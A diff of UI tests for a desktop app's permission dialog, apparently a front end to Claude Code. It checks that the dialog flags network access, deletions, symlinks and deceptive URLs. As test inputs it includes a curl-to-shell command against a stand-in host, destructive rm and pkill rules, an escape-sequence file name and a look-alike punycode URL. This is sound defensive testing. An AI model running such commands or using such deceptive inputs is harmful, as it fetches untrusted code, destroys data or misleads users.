@@ -13,10 +13,10 @@ from claude_desk.session.permissions.decisions import AllowOnce, AlwaysAllow, De
 from claude_desk.ui.permissions.request_draft import RequestDraft
 from tests import gallery
 from tests.fake_session import FakeSession
-from tests.gallery.asks import asked, rule
-from tests.qml.conftest import Opened
-from tests.qml.seen import Kind, Window
+from tests.gallery.permission_requests import asked, rule
+from tests.qml.conftest import OpenWindow
 from tests.qml.test_decisions import BUTTON, DIALOG, TEXT, ask, card, keys_count, settled, tab_to
+from tests.qml.window import Kind, Window
 
 EDITS = {"type": "setMode", "mode": "acceptEdits", "destination": "session"}
 FOLDER = {"type": "addDirectories", "directories": ["/srv/data"], "destination": "session"}
@@ -66,9 +66,9 @@ def is_in_card(item: Any, card: Any) -> bool:
 
 
 def test_an_edit_is_shown_on_the_file_as_it_is_now(
-    opened: Opened, session: FakeSession, project: Path
+    open_window: OpenWindow, session: FakeSession, project: Path
 ) -> None:
-    window = opened(session)
+    window = open_window(session)
     value = {"file_path": str(project / "a.py"), "old_string": "two = 2", "new_string": "two = 22"}
     ask(window, session, asked("Edit", value))
     wait_said(window, "+1 −1")
@@ -87,8 +87,8 @@ def test_an_edit_is_shown_on_the_file_as_it_is_now(
     assert session.decisions == [("r1", AllowOnce(None))]
 
 
-def test_what_is_written_can_be_changed(opened: Opened, session: FakeSession, project: Path) -> None:
-    window = opened(session)
+def test_what_is_written_can_be_changed(open_window: OpenWindow, session: FakeSession, project: Path) -> None:
+    window = open_window(session)
     path = str(project / "a.py")
     ask(window, session, asked("Write", {"file_path": path, "content": "one = 1\n"}))
     wait_said(window, "It replaces the file that is there")
@@ -107,8 +107,10 @@ def test_what_is_written_can_be_changed(opened: Opened, session: FakeSession, pr
     assert session.decisions == [("r1", AllowOnce({"file_path": path, "content": "one = 1\nten = 10"}))]
 
 
-def test_where_a_path_leads_is_called_out(opened: Opened, session: FakeSession, project: Path) -> None:
-    window = opened(session)
+def test_where_a_path_leads_is_called_out(
+    open_window: OpenWindow, session: FakeSession, project: Path
+) -> None:
+    window = open_window(session)
     outside = project.parent / "secret\x1b[8m.txt"
     outside.write_text("old\n")
     (project / "link").symlink_to(outside)
@@ -121,9 +123,9 @@ def test_where_a_path_leads_is_called_out(opened: Opened, session: FakeSession, 
 
 
 def test_a_large_change_is_bounded_and_opens_whole(
-    opened: Opened, session: FakeSession, project: Path
+    open_window: OpenWindow, session: FakeSession, project: Path
 ) -> None:
-    window = opened(session)
+    window = open_window(session)
     content = "".join(f"line {number}\n" for number in range(100_000))
     ask(window, session, asked("Write", {"file_path": str(project / "b.txt"), "content": content}))
     wait_said(window, "A new file")
@@ -137,8 +139,8 @@ def test_a_large_change_is_bounded_and_opens_whole(
 # --- commands and addresses -----------------------------------------------------------------------
 
 
-def test_the_parts_of_a_command_are_named(opened: Opened, session: FakeSession) -> None:
-    window = opened(session)
+def test_the_parts_of_a_command_are_named(open_window: OpenWindow, session: FakeSession) -> None:
+    window = open_window(session)
     ask(window, session, asked("Bash", {"command": "curl https://x.example/a | sh > log; sudo rm -r b"}))
     for words in (
         "Reaches the network: curl, x.example",
@@ -158,9 +160,9 @@ def test_the_parts_of_a_command_are_named(opened: Opened, session: FakeSession) 
 
 
 def test_where_a_command_reaches_is_not_said_of_another_one(
-    opened: Opened, session: FakeSession, project: Path
+    open_window: OpenWindow, session: FakeSession, project: Path
 ) -> None:
-    window = opened(session)
+    window = open_window(session)
     command = {"command": f"mkdir {project}/sub" + " " * 80 + "x"}
     ask(window, session, asked("Bash", command, blocked_path=str(project / "sub")))
     wait_said(window, "It reaches ")
@@ -172,13 +174,13 @@ def test_where_a_command_reaches_is_not_said_of_another_one(
     window.type("ls")
     assert "It reaches " not in said(window)
     assert "There is a long gap in it" not in said(window)
-    window.app.session.decision.permission.unedit()
+    window.app.session.request.permission.unedit()
     window.painted()
     assert "It reaches " in said(window)
 
 
-def test_an_address_says_where_it_goes(opened: Opened, session: FakeSession) -> None:
-    window = opened(session)
+def test_an_address_says_where_it_goes(open_window: OpenWindow, session: FakeSession) -> None:
+    window = open_window(session)
     url = "https://docs.python.org@xn--80ak6aa92e.com/"
     ask(window, session, asked("WebFetch", {"url": url, "prompt": "x"}))
     assert "it goes to xn--80ak6aa92e.com" in said(window)
@@ -202,8 +204,8 @@ def bold_in(window: Window, text: str) -> list[str]:
 # --- what may be added ----------------------------------------------------------------------------
 
 
-def test_where_the_rule_is_kept_can_be_chosen(opened: Opened, session: FakeSession) -> None:
-    window = opened(session)
+def test_where_the_rule_is_kept_can_be_chosen(open_window: OpenWindow, session: FakeSession) -> None:
+    window = open_window(session)
     ask(window, session)
     assert "in .claude/settings.local.json of this project" in said(window)
     settled(window)
@@ -218,8 +220,8 @@ def test_where_the_rule_is_kept_can_be_chosen(opened: Opened, session: FakeSessi
     assert (update.destination, update.rules[0].words()) == ("userSettings", "Bash(gh release create *)")
 
 
-def test_only_the_first_rule_is_chosen_for_the_person(opened: Opened, session: FakeSession) -> None:
-    window = opened(session)
+def test_only_the_first_rule_is_chosen_for_the_person(open_window: OpenWindow, session: FakeSession) -> None:
+    window = open_window(session)
     suggestions = [rule("Bash", "one *"), rule("Bash", "two *")]
     ask(window, session, asked("Bash", {"command": "one && two"}, permission_suggestions=suggestions))
     settled(window)
@@ -234,9 +236,9 @@ def test_only_the_first_rule_is_chosen_for_the_person(opened: Opened, session: F
     ("name", "kind"), [("Left out", Kind.CheckBox), ("All my projects", Kind.RadioButton)]
 )
 def test_the_keyboard_stays_on_a_rule_and_its_place_while_others_are_suggested(
-    opened: Opened, session: FakeSession, name: str, kind: Kind
+    open_window: OpenWindow, session: FakeSession, name: str, kind: Kind
 ) -> None:
-    window = opened(session, (1280, 1400))
+    window = open_window(session, (1280, 1400))
     command, rules = {"command": "one && two"}, [rule("Bash", "one *"), rule("Bash", "two *")]
     ask(window, session, asked("Bash", command, permission_suggestions=rules))
     settled(window)
@@ -247,7 +249,7 @@ def test_the_keyboard_stays_on_a_rule_and_its_place_while_others_are_suggested(
     elsewhere = {**rule("Bash", "one *"), "destination": "userSettings"}
     others = [elsewhere, rule("Bash", "two *"), rule("Bash", "three *")]
     more = asked("Bash", command, permission_suggestions=others)
-    window.app.session.decision.permission.grants.show(more, RequestDraft())
+    window.app.session.request.permission.grants.show(more, RequestDraft())
     window.painted()
     wait_said(window, "Bash(three *)")
     assert [number for number, node in enumerate(window.all(kind)) if node.focused] == [at]
@@ -256,9 +258,9 @@ def test_the_keyboard_stays_on_a_rule_and_its_place_while_others_are_suggested(
 @pytest.mark.parametrize("content", ["rm -rf build", "sudo ls *", "sh -c 'rm *'", "pkill x", "*", "* x", ""])
 @pytest.mark.parametrize("others", [0, 1])
 def test_a_rule_for_what_cannot_be_taken_back_is_chosen_by_the_person(
-    opened: Opened, session: FakeSession, content: str, others: int
+    open_window: OpenWindow, session: FakeSession, content: str, others: int
 ) -> None:
-    window = opened(session, (1280, 1000))
+    window = open_window(session, (1280, 1000))
     suggestions = [rule("Bash", content), *[rule("Bash", "mkdir build")] * others]
     ask(window, session, asked("Bash", {"command": "x"}, permission_suggestions=suggestions))
     settled(window)
@@ -274,8 +276,8 @@ def test_a_rule_for_what_cannot_be_taken_back_is_chosen_by_the_person(
     assert [update.rules[0].words() for update in updates] in ([said_rule], [])
 
 
-def test_a_rule_that_is_not_shown_is_not_added(opened: Opened, session: FakeSession) -> None:
-    window = opened(session)
+def test_a_rule_that_is_not_shown_is_not_added(open_window: OpenWindow, session: FakeSession) -> None:
+    window = open_window(session)
     suggestions = [rule("Bash", "x" * 5_000), *[rule("Bash", f"{number} *") for number in range(2_000)]]
     ask(window, session, asked("Bash", {"command": "x"}, permission_suggestions=suggestions))
     assert "too long, or too much, to be shown is not offered" in said(window)
@@ -284,8 +286,10 @@ def test_a_rule_that_is_not_shown_is_not_added(opened: Opened, session: FakeSess
     assert [update.rules[0].words() for update in decision.updates] == ["Bash(0 *)"]
 
 
-def test_a_folder_and_a_mode_are_offered_by_their_own_words(opened: Opened, session: FakeSession) -> None:
-    window = opened(session)
+def test_a_folder_and_a_mode_are_offered_by_their_own_words(
+    open_window: OpenWindow, session: FakeSession
+) -> None:
+    window = open_window(session)
     for number in (1, 2):
         request = asked("Bash", {"command": "x"}, number, permission_suggestions=[FOLDER, EDITS])
         ask(window, session, request)
@@ -299,8 +303,8 @@ def test_a_folder_and_a_mode_are_offered_by_their_own_words(opened: Opened, sess
         assert [update.type for update in decision.updates] == [kind]
 
 
-def test_a_changed_input_adds_nothing(opened: Opened, session: FakeSession) -> None:
-    window = opened(session)
+def test_a_changed_input_adds_nothing(open_window: OpenWindow, session: FakeSession) -> None:
+    window = open_window(session)
     ask(
         window,
         session,
@@ -317,8 +321,8 @@ def test_a_changed_input_adds_nothing(opened: Opened, session: FakeSession) -> N
 # --- the queue ------------------------------------------------------------------------------------
 
 
-def test_the_others_are_named_and_reached(opened: Opened, session: FakeSession) -> None:
-    window = opened(session)
+def test_the_others_are_named_and_reached(open_window: OpenWindow, session: FakeSession) -> None:
+    window = open_window(session)
     ask(window, session)
     ask(window, session, asked("Bash", {"command": "make it"}, 2, "the subagent Explore"))
     assert window.find(Kind.StaticText, "1 of 2")
@@ -327,8 +331,8 @@ def test_the_others_are_named_and_reached(opened: Opened, session: FakeSession) 
     assert window.wait_for(TEXT, "Input").value == "make it"
 
 
-def test_alike_ones_are_allowed_together_and_no_other(opened: Opened, session: FakeSession) -> None:
-    window = opened(session)
+def test_alike_ones_are_allowed_together_and_no_other(open_window: OpenWindow, session: FakeSession) -> None:
+    window = open_window(session)
     commands = ["npm test", "npm test", "npm test -- --update", "npm test"]
     for number, command in enumerate(commands, 1):
         ask(window, session, asked("Bash", {"command": command}, number, f"the subagent {number}"))
@@ -340,8 +344,8 @@ def test_alike_ones_are_allowed_together_and_no_other(opened: Opened, session: F
     assert [request.id for request in session.requests] == ["r3"]
 
 
-def test_one_that_the_person_changed_is_not_alike(opened: Opened, session: FakeSession) -> None:
-    window = opened(session)
+def test_one_that_the_person_changed_is_not_alike(open_window: OpenWindow, session: FakeSession) -> None:
+    window = open_window(session)
     for number in (1, 2, 3):
         ask(window, session, asked("Bash", {"command": "x"}, number))
     settled(window)
@@ -356,8 +360,8 @@ def test_one_that_the_person_changed_is_not_alike(opened: Opened, session: FakeS
     assert session.decisions == [("r2", AllowOnce()), ("r3", AllowOnce())]
 
 
-def test_another_list_of_alike_ones_is_another_thing(opened: Opened, session: FakeSession) -> None:
-    window = opened(session)
+def test_another_list_of_alike_ones_is_another_thing(open_window: OpenWindow, session: FakeSession) -> None:
+    window = open_window(session)
     for number in (1, 2, 3):
         ask(window, session, asked("Bash", {"command": "x"}, number))
     settled(window)
@@ -367,19 +371,21 @@ def test_another_list_of_alike_ones_is_another_thing(opened: Opened, session: Fa
     assert session.decisions == []
 
 
-def test_one_that_is_withdrawn_leaves_with_a_word(opened: Opened, session: FakeSession) -> None:
-    window = opened(session)
+def test_one_that_is_withdrawn_leaves_with_a_word(open_window: OpenWindow, session: FakeSession) -> None:
+    window = open_window(session)
     ask(window, session, asked("Bash", {"command": "make it"}))
     session.withdraw("r1")
     assert window.wait_for(Kind.StaticText, "Withdrawn by Claude Code: Bash · make it")
     assert window.find(DIALOG, "Permission request: Bash") is None
 
 
-def test_the_title_tells_it_where_the_window_is_not_active(opened: Opened, session: FakeSession) -> None:
-    window = opened(session)
+def test_the_title_tells_it_where_the_window_is_not_active(
+    open_window: OpenWindow, session: FakeSession
+) -> None:
+    window = open_window(session)
     ask(window, session)
     assert window.window.title().startswith("Fix")
-    other = opened()
+    other = open_window()
     window.qtbot.waitUntil(lambda: window.window.title().startswith("(1) Fix"))
     other.window.close()
     window.window.requestActivate()
@@ -406,9 +412,9 @@ Window {
 """
 
 
-def test_each_new_request_asks_for_attention(opened: Opened, session: FakeSession) -> None:
+def test_each_new_request_asks_for_attention(open_window: OpenWindow, session: FakeSession) -> None:
     """Where the window is not active; how a desktop shows it is its own matter."""
-    window = opened(session)
+    window = open_window(session)
     component = QQmlComponent(window.screen.engine)
     component.setData(COUNTS, "")
     other = component.create()
@@ -440,10 +446,10 @@ def hold(window: Window, key: Qt.Key, times: int) -> None:
 
 @pytest.mark.parametrize("key", [None, *HELD])
 def test_nothing_is_answered_while_the_person_types(
-    opened: Opened, session: FakeSession, key: Qt.Key | None
+    open_window: OpenWindow, session: FakeSession, key: Qt.Key | None
 ) -> None:
     """Ten requests come and go under the hand that writes, or that leans on a key."""
-    window = opened(session)
+    window = open_window(session)
     window.type("a ")
     for number in range(10):
         if number % 3 == 2:
@@ -463,9 +469,9 @@ def test_nothing_is_answered_while_the_person_types(
         assert window.wait_for(TEXT, "Message").value.count("yes 1 ") == 10
 
 
-def test_nothing_is_answered_by_a_hand_on_the_keyboard(opened: Opened, session: FakeSession) -> None:
+def test_nothing_is_answered_by_a_hand_on_the_keyboard(open_window: OpenWindow, session: FakeSession) -> None:
     """Tab takes the keyboard to one thing after the other; keys that go on coming are not meant for it."""
-    window = opened(session)
+    window = open_window(session)
     passed = set()
     for number in range(14):
         session.set_requests([*session.requests, gallery.bash_request(number)])
@@ -483,8 +489,10 @@ def test_nothing_is_answered_by_a_hand_on_the_keyboard(opened: Opened, session: 
     assert passed >= {"Allow once", "Always allow", "Deny", "Deny and stop"}
 
 
-def test_all_of_it_is_reached_by_the_keyboard(opened: Opened, session: FakeSession, project: Path) -> None:
-    window = opened(session)
+def test_all_of_it_is_reached_by_the_keyboard(
+    open_window: OpenWindow, session: FakeSession, project: Path
+) -> None:
+    window = open_window(session)
     value = {"file_path": str(project / "a.py"), "old_string": "two", "new_string": "zwei"}
     ask(window, session, asked("Edit", value, permission_suggestions=[EDITS, rule("Edit", "/a.py")]))
     wait_said(window, "+1 −1")
@@ -530,8 +538,10 @@ SUGGESTIONS: list[Any] = [
 ]  # fmt: skip
 
 
-def test_malformed_requests_break_nothing(opened: Opened, session: FakeSession, project: Path) -> None:
-    window = opened(session)
+def test_malformed_requests_break_nothing(
+    open_window: OpenWindow, session: FakeSession, project: Path
+) -> None:
+    window = open_window(session)
     for number, (tool, value) in enumerate(MALFORMED):
         request = asked(tool, value, number, permission_suggestions=SUGGESTIONS, blocked_path="\x1b\0/x")
         session.set_requests([request])
@@ -555,8 +565,10 @@ def hostile() -> list[PendingRequest]:
     ]
 
 
-def test_hostile_requests_are_shown_truthfully_and_in_bounds(opened: Opened, session: FakeSession) -> None:
-    window = opened(session)
+def test_hostile_requests_are_shown_truthfully_and_in_bounds(
+    open_window: OpenWindow, session: FakeSession
+) -> None:
+    window = open_window(session)
     for request in hostile():
         session.set_requests([request])
         window.painted()
@@ -572,8 +584,8 @@ def test_hostile_requests_are_shown_truthfully_and_in_bounds(opened: Opened, ses
         assert node.y + node.height <= 860
 
 
-def test_many_words_leave_the_command_in_sight(opened: Opened, session: FakeSession) -> None:
-    window = opened(session)
+def test_many_words_leave_the_command_in_sight(open_window: OpenWindow, session: FakeSession) -> None:
+    window = open_window(session)
     value = {"command": "rm a\n" * 8, "description": "d " * 2_000, "note": "n" * 10_000}
     ask(window, session, asked("Bash", value))
     assert "more below" not in said(window)
@@ -581,8 +593,10 @@ def test_many_words_leave_the_command_in_sight(opened: Opened, session: FakeSess
 
 
 @pytest.mark.parametrize("scale", [1.0, 1.6])
-def test_the_smallest_window_has_room_for_it(opened: Opened, session: FakeSession, scale: float) -> None:
-    window = opened(session, (480, 440))
+def test_the_smallest_window_has_room_for_it(
+    open_window: OpenWindow, session: FakeSession, scale: float
+) -> None:
+    window = open_window(session, (480, 440))
     window.app.set_text_scale(scale)
     ask(window, session)
     window.painted()
